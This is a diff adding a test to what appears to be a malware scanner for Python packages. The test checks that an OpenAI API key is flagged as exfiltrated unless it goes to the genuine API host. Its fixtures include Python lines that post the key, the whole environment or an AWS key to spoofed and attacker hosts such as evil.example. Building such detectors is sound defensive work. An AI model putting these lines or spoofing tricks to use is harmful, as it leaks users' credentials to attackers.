@@ -180,6 +180,32 @@ test("a client that is given a token sends nothing yet, one that is given the en
   ]);
 });
 
+test("a key goes to the service that it is called after, and to no other", async () => {
+  const scan = async (address: string, more = "") =>
+    reported(
+      await scanZip([{
+        name: "a.py",
+        data: "import os, requests\n" +
+          `requests.post(${address}, headers={"Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}"}${more})\n`,
+      }]),
+    ).join();
+  const own = '"https://api.openai.com/v1/chat/completions"';
+  assert.doesNotMatch(await scan(own, ", json={}"), /exfiltration/);
+  assert.match(await scan(own, ", data=dict(os.environ)"), /critical python-exfiltration/);
+  assert.match(await scan(own, ", data=os.environ['AWS_KEY']"), /critical python-exfiltration/);
+  const others = [
+    '"https://api.openai.com.evil.example/"',
+    '"https://openai.com@evil.example/"',
+    '"https://evil.example/?https://api.openai.com"',
+    '"http://api.openai.com/"',
+    "address",
+    '"https://api.openai.com/" + address',
+  ];
+  for (const other of others) {
+    assert.match(await scan(other), /critical python-exfiltration/, other);
+  }
+});
+
 test("an encoding that hides code makes the module unread", async () => {
   for (const codec of ["unicode_escape", "utf-7", "rot13", "raw-unicode-escape", "x-nobody"]) {
     const report = await scanZip([{
